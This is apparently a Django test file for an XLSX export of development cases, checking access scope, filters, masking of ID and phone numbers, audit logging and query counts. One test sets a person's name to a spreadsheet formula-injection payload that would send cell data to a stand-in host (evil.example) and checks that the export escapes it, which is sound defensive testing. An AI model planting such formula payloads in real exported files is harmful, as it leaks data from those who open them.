"""The case roster export: who may export, which rows, the masking of ID and phone numbers, cells a
spreadsheet would run, the audit event, and a query count that does not grow with the rows."""

from __future__ import annotations

import io
from datetime import date, datetime

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from core.models import AuditEvent
from development import exports, services, services_batches, steps
from development.models import BatchKind, DevelopmentCase
from development.tests import helpers
from orgs.exports import XLSX_CONTENT_TYPE
from orgs.models import PositionType
from orgs.tests.factories import appoint, make_person

pytestmark = pytest.mark.django_db

VALID_ID = "11010519491231002X"
PHONE = "13812345678"
HEADER_COLUMNS = len(exports.header())


def client_for(user, language: str = "zh-hans") -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(user)
    return client


def export(user, unit, language: str = "zh-hans", **filters) -> list[list[object]]:
    response = client_for(user, language).get(reverse("dossier:cases_export"), {"unit": unit.pk, **filters})
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == XLSX_CONTENT_TYPE
    assert "no-store" in response["Cache-Control"]
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


@pytest.fixture
def cases(tree, personas, clock):
    """Three open cases in college A (two in A1 at different stages, one in A2) and one in B1."""
    ours = helpers.make_applicant(tree.branch_a1, national_id=VALID_ID, phone=PHONE, number="2024000001")
    at_talk = helpers.open_case(personas, ours)
    activist = helpers.new_case_at(personas, tree.branch_a1, 7)
    other_branch = helpers.case_row(tree.branch_a2, 2, date(2028, 5, 20))
    elsewhere = helpers.case_row(tree.branch_b1, 2, date(2028, 5, 20))
    return {"talk": at_talk, "activist": activist, "a2": other_branch, "b1": elsewhere}


@pytest.mark.parametrize(
    ("persona", "expected"),
    [
        ("outsider", 404),  # secretary of B1: college A is outside their scope
        ("student", 404),
        ("propaganda", 403),  # sees the cases of A1, may not export them
        ("secretary", 200),
        ("college_officer", 200),
        ("university_admin", 200),
        ("system_admin", 200),
    ],
)
def test_exporting_the_cases_of_a_branch_follows_the_scope_rule(tree, personas, cases, persona, expected):
    response = client_for(getattr(personas, persona)).get(
        reverse("dossier:cases_export"), {"unit": tree.branch_a1.pk}
    )
    assert response.status_code == expected
    assert AuditEvent.objects.filter(action="development.cases.export").count() == (expected == 200)


def test_the_export_needs_the_right_to_see_cases_as_well_as_to_export(tree, personas, cases):
    kind = PositionType.objects.get(code="deputy_secretary")
    kind.capabilities = [c for c in kind.capabilities if c != "development.view_cases"]
    kind.save()
    exporter = make_person(tree.branch_a1, name="只导出")
    appoint(exporter, tree.branch_a1, "deputy_secretary")  # may export members, not see cases
    response = client_for(exporter).get(reverse("dossier:cases_export"), {"unit": tree.branch_a1.pk})
    assert response.status_code == 403


def test_a_unit_that_is_no_number_or_does_not_exist_is_not_found(personas):
    client = client_for(personas.secretary)
    assert client.get(reverse("dossier:cases_export"), {"unit": "abc"}).status_code == 404
    assert client.get(reverse("dossier:cases_export"), {"unit": 999999}).status_code == 404


def test_without_a_unit_the_page_offers_the_units_one_may_export(tree, personas):
    response = client_for(personas.secretary).get(reverse("dossier:cases_export"))
    assert response.status_code == 200
    assert list(response.context["units"]) == [tree.branch_a1]
    assert client_for(personas.propaganda).get(reverse("dossier:cases_export")).status_code == 403
    assert client_for(personas.student).get(reverse("dossier:cases_export")).status_code == 403


def test_the_rows_are_the_open_cases_of_the_subtree_with_a_column_per_step(tree, personas, cases):
    rows = export(personas.college_officer, tree.college_a)
    header, body = rows[0], rows[1:]
    assert len(header) == HEADER_COLUMNS == 14 + len(steps.STEPS)
    numbers = [row[0] for row in body]
    assert len(body) == 3
    assert cases["b1"].person.number not in numbers
    activist = next(row for row in body if row[0] == cases["activist"].person.number)
    step_dates = activist[10 : 10 + len(steps.STEPS)]
    # Driven up to step 7: steps 1-5 are dated, 6 (education, ongoing) is the current step.
    assert [d.date() if isinstance(d, datetime) else d for d in step_dates[:5]] == [
        helpers.DATES[n] for n in range(1, 6)
    ]
    assert all(d is None for d in step_dates[5:])
    assert activist[9].startswith("6. ")


def test_the_export_filters_by_stage_batch_and_grade(tree, personas, cases):
    assert len(export(personas.college_officer, tree.college_a, stage=2)) == 1 + 1
    assert len(export(personas.college_officer, tree.college_a, stage=1)) == 1 + 2
    assert len(export(personas.college_officer, tree.college_a, grade=1999)) == 1
    batch = services_batches.batch_open(
        actor=personas.secretary,
        unit=tree.branch_a1,
        name="2028年春季积极分子",
        kind=BatchKind.ACTIVISTS,
        semester="2028 春",
    )
    services_batches.batch_add_cases(actor=personas.secretary, batch=batch, cases=[cases["talk"]])
    rows = export(personas.college_officer, tree.college_a, batch=batch.pk)
    assert [row[0] for row in rows[1:]] == [cases["talk"].person.number]
    assert rows[1][6] == "2028年春季积极分子"


def test_an_exporter_with_the_personal_data_right_sees_full_numbers(tree, personas, cases):
    rows = export(personas.secretary, tree.branch_a1)
    ours = next(row for row in rows[1:] if row[0] == "2024000001")
    assert (ours[2], ours[3]) == (VALID_ID, PHONE)
    event = AuditEvent.objects.get(action="development.cases.export")
    assert (event.actor, event.unit_id, event.data["count"], event.data["masked_rows"]) == (
        personas.secretary,
        tree.branch_a1.pk,
        2,
        0,
    )


def test_an_exporter_without_the_personal_data_right_gets_masked_numbers(tree, personas, cases):
    deputy = make_person(tree.branch_a1, name="钱副书记")
    appoint(deputy, tree.branch_a1, "deputy_secretary")  # may export and see cases, not personal data
    rows = export(deputy, tree.branch_a1, "en")
    ours = next(row for row in rows[1:] if row[0] == "2024000001")
    assert (ours[2], ours[3]) == ("110***********002X", "138****5678")
    assert VALID_ID not in str(rows) and PHONE not in str(rows)
    assert rows[0][2] == "National ID number"
    assert AuditEvent.objects.get(action="development.cases.export").data["masked_rows"] == 2


def test_the_export_never_writes_a_cell_a_spreadsheet_would_run(tree, personas, clock):
    person = helpers.make_applicant(tree.branch_a1)
    person.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    person.major = "+SUM(1,2)"
    person.save()
    helpers.open_case(personas, person)
    rows = export(personas.secretary, tree.branch_a1)
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点我")' in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)


def test_the_next_due_date_the_overdue_flag_and_the_exceptions_are_counted(tree, personas, clock):
    excused = helpers.open_case(personas, helpers.make_applicant(tree.branch_a1))  # talk due 2024-07-03
    services.step_record(
        actor=personas.college_officer,
        case=excused,
        step=2,
        data={"date": date(2024, 7, 4), "talker": personas.secretary.pk},
        exception_reason="书记外出学习",
    )
    stale = helpers.open_case(personas, helpers.make_applicant(tree.branch_a1), received_on=date(2028, 4, 1))
    fresh = helpers.open_case(personas, helpers.make_applicant(tree.branch_a1), received_on=date(2028, 5, 25))
    rows = {row[0]: row for row in export(personas.secretary, tree.branch_a1, "en")[1:]}
    due_column, overdue_column, exceptions_column = HEADER_COLUMNS - 4, HEADER_COLUMNS - 2, HEADER_COLUMNS - 1

    def due_on(row):
        value = row[due_column]
        return value.date() if isinstance(value, datetime) else value

    assert [rows[excused.person.number][i] for i in (overdue_column, exceptions_column)] == ["no", 1]
    assert rows[stale.person.number][overdue_column] == "yes"  # no talk within a month of 1 April
    assert due_on(rows[stale.person.number]) == date(2028, 5, 1)
    assert [rows[fresh.person.number][i] for i in (overdue_column, exceptions_column)] == ["no", 0]
    assert due_on(rows[fresh.person.number]) == date(2028, 6, 25)


def count_queries(function) -> int:
    with CaptureQueriesContext(connection) as queries:
        function()
    return len(queries)


def test_the_export_costs_the_same_queries_for_3_or_30_cases(tree, personas, clock):
    client = client_for(personas.secretary)

    def run() -> int:
        response = client.get(reverse("dossier:cases_export"), {"unit": tree.branch_a2.pk})
        b"".join(response.streaming_content)
        return response.status_code

    appoint(personas.secretary, tree.branch_a2, "secretary")
    for _ in range(3):
        helpers.case_row(tree.branch_a2, 4, date(2028, 1, 10), activist_on=date(2028, 1, 2))
    run()
    few = count_queries(run)
    for _ in range(27):
        helpers.case_row(tree.branch_a2, 4, date(2028, 1, 10), activist_on=date(2028, 1, 2))
    many = count_queries(run)
    assert few == many
    assert DevelopmentCase.objects.filter(branch=tree.branch_a2).count() == 30


def test_the_file_is_named_after_the_unit_and_the_day(tree, personas, cases):
    response = client_for(personas.secretary).get(
        reverse("dossier:cases_export"), {"unit": tree.branch_a1.pk}
    )
    assert 'filename="development-cases-A1-20280601.xlsx"' in response["Content-Disposition"]
